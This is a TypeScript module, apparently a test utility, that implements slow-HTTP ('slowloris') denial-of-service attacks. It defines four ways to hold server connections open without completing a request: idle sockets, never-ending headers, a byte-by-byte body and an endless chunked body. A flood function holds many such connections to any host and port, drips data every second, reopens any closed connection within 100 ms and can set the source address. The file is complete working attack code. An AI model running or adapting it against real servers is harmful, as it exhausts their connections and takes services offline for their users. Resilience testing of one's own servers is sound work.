import { connect, type Socket } from 'node:net';

/** A closed connection is opened again that soon, as a hostile caller would. */
const AGAIN_MS = 100;
const DRIP_MS = 1_000;

/** What a caller sends on each connection that it holds. */
export interface Attack {
  /** Absent: nothing ever comes. */
  first?: string;
  /** Every second from then on. */
  drip?: string;
}

/** The ways to hold a connection of a server and want nothing of it. @param head - of a request, its headers but the last line break */
export function attacksOn(head: string): Record<string, Attack> {
  return {
    idle: {},
    'with headers that never end': { first: head, drip: 'x: y\r\n' },
    'with a body that comes byte by byte': {
      first: `${head}Content-Type: application/json\r\nContent-Length: 9000\r\n\r\n`,
      drip: ' ',
    },
    'with a body in chunks that never ends': {
      first: `${head}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
      drip: '1\r\n \r\n',
    },
  };
}

/** Connections that are being held. */
export interface Flood {
  end(): void;
}

/** Whom a flood is for. */
export interface Target {
  port: number;
  host: string;
  connections: number;
  /** Address that it comes from; absent: what the system takes. */
  from?: string;
  /** Default: true. False: what the server closes stays closed. */
  again?: boolean;
}

/** Holds connections to a port, and opens another for each that is closed. */
export function aFlood(target: Target, { first, drip }: Attack): Flood {
  const { port, host, from, again = true } = target;
  const held = new Set<Socket>();
  let over = false;
  const hold = () => {
    if (over) return;
    const socket = connect({ port, host, localAddress: from });
    held.add(socket);
    socket.on('error', () => {});
    socket.once('connect', () => first && socket.write(first));
    // Whatever is answered is read, so that a server may close.
    socket.resume();
    socket.once('close', () => {
      held.delete(socket);
      if (again) setTimeout(hold, AGAIN_MS).unref();
    });
  };
  for (let i = 0; i < target.connections; i += 1) hold();
  const dripping = setInterval(() => {
    if (drip) for (const socket of held) socket.write(drip);
  }, DRIP_MS);
  return {
    end: () => {
      over = true;
      clearInterval(dripping);
      for (const socket of held) socket.destroy();
    },
  };
}
